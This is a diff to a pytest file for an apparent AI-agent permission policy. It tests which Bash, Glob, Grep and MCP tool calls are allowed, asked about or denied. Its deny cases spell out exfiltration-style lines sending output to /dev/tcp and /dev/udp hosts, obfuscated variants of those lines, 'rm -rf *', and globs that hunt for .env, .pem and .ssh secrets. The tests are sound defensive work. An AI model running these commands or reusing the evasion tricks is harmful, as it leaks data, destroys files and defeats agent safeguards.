@@ -4,12 +4,13 @@ import dataclasses
 from pathlib import Path
 
 import pytest
-from hypothesis import HealthCheck, given, settings
+from hypothesis import given
 from hypothesis import strategies as st
 
-from parachute.errors import InvalidInput
-from parachute.permissions.models import Access, Grant
-from parachute.permissions.tools import ACTION_BY_NAME, ACTIONS
+from parachute.base.errors import InvalidInput
+from parachute.security.permissions.actions import ACTION_BY_NAME, ACTIONS
+from parachute.security.permissions.grants import Grant
+from parachute.security.permissions.models import Resource
 
 ALWAYS = ["WebSearch", "Task", "Agent", "TodoWrite", "AskUserQuestion", "ToolSearch"]
 GUARDED = {
@@ -28,15 +29,15 @@ GUARDED = {
 
 
 def test_every_guarded_tool_of_the_table_is_tested() -> None:
-    assert set(GUARDED) == {action.name for action in ACTIONS if action.access is not None}
+    assert set(GUARDED) == {action.name for action in ACTIONS if action.resource is not Resource.NONE}
     assert all(action.also_requires in {None, *ACTION_BY_NAME} for action in ACTIONS)
     assert len(ACTION_BY_NAME) == len(ACTIONS)
 
 
 @pytest.mark.parametrize("tool", GUARDED)
 def test_who_is_asked_and_who_is_not(world, tool: str) -> None:
-    box = world.policy("sandboxed", trust_mode=False, working_directory=Path("/scratch/s"))
-    assert box.decide(tool, GUARDED[tool]).rule == "sandbox"
+    confined = world.policy("sandboxed", trust_mode=False, working_directory=Path("/scratch/s"))
+    assert confined.decide(tool, GUARDED[tool]).rule == "sandbox"
     assert world.policy().decide(tool, GUARDED[tool]).rule == "trust-mode"
     decision = world.policy(trust_mode=False).decide(tool, GUARDED[tool])
     assert (decision.effect, decision.rule) == ("ask", "needs-grant")
@@ -68,12 +69,18 @@ def test_a_tool_that_nobody_knows(world) -> None:
         ("Glob", {"pattern": "**/.env*"}),
         ("Glob", {"pattern": "**/*.pem"}),
         ("Grep", {"pattern": "x", "glob": "*.{md,key}"}),
+        ("Grep", {"pattern": "x", "glob": "foo.pem,a.md"}),
+        ("Grep", {"pattern": "x", "glob": "{a,.env.staging}"}),
+        ("Grep", {"pattern": "x", "glob": "*.{k,x}{ey,y}"}),
+        ("Glob", {"pattern": "Projects/.env.staging"}),
         ("NotebookEdit", {"notebook_path": ".ssh/x.ipynb", "new_source": ""}),
     ],
 )
-def test_hard_rules_hold_at_every_level(world, level: str, trust: bool, tool: str, fields: dict[str, object]) -> None:
-    grants = (Grant(Access.WRITE, "**/*"), Grant(Access.RUN, "sudo"), Grant(Access.RUN, "cat"))
-    assert world.policy(level, trust_mode=trust, grants=grants).decide(tool, fields).effect == "deny"
+def test_hard_rules_hold_at_every_level(
+    shared_world, level: str, trust: bool, tool: str, fields: dict[str, object]
+) -> None:
+    grants = tuple(map(Grant.parse, ("Edit(/**)", "Bash(sudo:*)", "Bash(cat:*)")))
+    assert shared_world.policy(level, trust_mode=trust, grants=grants).decide(tool, fields).effect == "deny"
 
 
 def test_searches_that_only_leave_secrets_out_are_fine(world) -> None:
@@ -117,7 +124,6 @@ def test_malformed_calls_are_denied_with_a_sentence(world, tool: object, fields:
         assert decision.reason.endswith(".")
 
 
-@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
 @given(
     tool=st.one_of(st.sampled_from([*GUARDED, *ALWAYS]), st.text(max_size=8)),
     fields=st.dictionaries(
@@ -148,7 +154,7 @@ def test_every_call_gets_an_answer(shared_world, tool: str, fields: dict[str, ob
         ("bash -c 'git status'", True),
         ("timeout 5 npm test", True),
         ("LANG=C git log", True),
-        ("for f in a b; do git add $f; done", True),
+        ("for f in a b; do git add $f; done", False),
         ("GIT push", False),
         ("curl x", False),
         ("git status; curl x", False),
@@ -161,11 +167,24 @@ def test_every_call_gets_an_answer(shared_world, tool: str, fields: dict[str, ob
         ("PATH=/tmp; git status", False),
         ("unshare git status", False),
         ("git() { curl x; }; git", False),
+        ("git log > notes.md 2>&1", True),
+        ("git log > /dev/null", True),
+        ("git log > /dev/tcp/example.org/80", False),
+        ("git log >& /dev/udp/192.0.2.1/53", False),
+        ("git log 2> '/dev/t'cp/example.org/80", False),
+        ("git log < /dev/tcp/example.org/80", False),
+        ("git log <> /dev/tcp/example.org/80", False),
+        ("> /dev/tcp/example.org/80", False),
+        ("exec 3<> /dev/tcp/example.org/80; git log >&3", False),
+        ("while read line; do git add x; done < /dev/tcp/example.org/80", False),
+        ("x=/dev/tcp/example.org/80; git log > $x", False),
+        ("git log > /dev/${x:-tcp}/example.org/80", False),
+        ("git log > $(echo /dev/tcp/example.org/80)", False),
     ],
 )
-def test_an_agents_list_of_commands(world, line: str, allowed: bool) -> None:
+def test_an_agents_list_of_commands(shared_world, line: str, allowed: bool) -> None:
     for level in ("direct", "sandboxed"):
-        policy = world.policy(level, allowed_commands=("git", "npm"))
+        policy = shared_world.policy(level, allowed_commands=("git", "npm"))
         assert policy.decide("Bash", {"command": line}).effect == ("allow" if allowed else "deny")
 
 
@@ -189,29 +208,33 @@ def test_an_agents_list_of_tools(world) -> None:
     assert world.policy(allowed_tools=()).decide("TodoWrite", {}).effect == "deny"
 
 
+def test_who_may_not_run_commands_is_not_asked_about_them(world) -> None:
+    policy = world.policy(trust_mode=False, allowed_tools=("Read",))
+    for line in ("$X y", "git status", "cd a; cd b; cd c; cd d; cd e; cd f; x"):
+        assert policy.decide("Bash", {"command": line}).rule == "agent-tools"
+
+
+@pytest.mark.parametrize(
+    "line", ["cd a; cd b; cd c; cd d; cd e; cd f; x", "cd /; (cd tmp); cd x; rm -rf *", "cd .. && rm -rf *"]
+)
+def test_where_a_line_may_be_is_not_guessed(world, line: str) -> None:
+    assert world.policy().decide("Bash", {"command": line}).rule == "unknown-command"
+    assert world.policy(trust_mode=False).decide("Bash", {"command": line}).effect == "ask"
+    assert world.policy("sandboxed").decide("Bash", {"command": line}).effect == "allow"
+
+
 def test_tools_of_servers_are_those_of_the_session_and_no_others(world) -> None:
     search = "mcp__parachute__brain_search"
     for level, fields in (("sandboxed", {"working_directory": Path("/scratch/s")}), ("direct", {})):
         for trust in (True, False):
             policy = world.policy(level, trust_mode=trust, mcp_tools=(search,), **fields)
             assert policy.decide(search, {"query": "x"}).rule == "module-tool"
-            assert policy.decide(search, {"query": "x"}).allowed
+            assert policy.decide(search, {"query": "x"}).effect == "allow"
             for other in ("mcp__", "mcp__parachute", f"{search}_all", "mcp__brain__search", f"{search}\n"):
                 assert policy.decide(other, {}).effect == "deny"
             assert world.policy(level, trust_mode=trust, **fields).decide(search, {}).effect == "deny"
             # The names of the session are what is left of an agent's list, which has no other say in it.
             assert world.policy(level, allowed_tools=(search,), **fields).decide(search, {}).effect == "deny"
-
-
-def test_file_routes_stay_in_the_vault(world) -> None:
-    (world.vault / "out").symlink_to(world.user_home)
-    policy = world.policy("sandboxed", working_directory=Path("/scratch/s"), mapped_roots={"/vault": world.vault})
-    for path in ("notes.md", "Daily/new.md", str(world.vault / "notes.md")):
-        assert policy.may_read(path).allowed
-        assert policy.may_write(Path(path)).allowed
-    for path in ("../Parachute-other/x.md", "out/x.md", "/etc/hosts", ".env", ".parachute/x", ".ENV", "a\0b"):
-        assert not policy.may_read(path).allowed
-        assert not policy.may_write(path).allowed
 
 
 def test_an_unknown_level_or_a_relative_folder_is_an_error(world) -> None:
@@ -230,11 +253,11 @@ def test_a_policy_is_a_value(world) -> None:
 
 
 def test_the_description_says_what_holds(world) -> None:
-    grant = Grant(Access.READ, "Daily/*")
+    grant = Grant.parse("Read(/Daily/*)")
     text = world.policy(
         trust_mode=False, grants=(grant,), allowed_commands=("git",), allowed_tools=("Read",)
     ).describe()
-    for fact in ("consent", "read Daily/*", "only: git", "only: Read", str(world.vault), ".env", "sudo"):
+    for fact in ("consent", "Read(/Daily/*)", "only: git", "only: Read", str(world.vault), ".env", "sudo"):
         assert fact in text
     assert "\n" not in text
     assert "sandbox" in world.policy("sandboxed").describe()
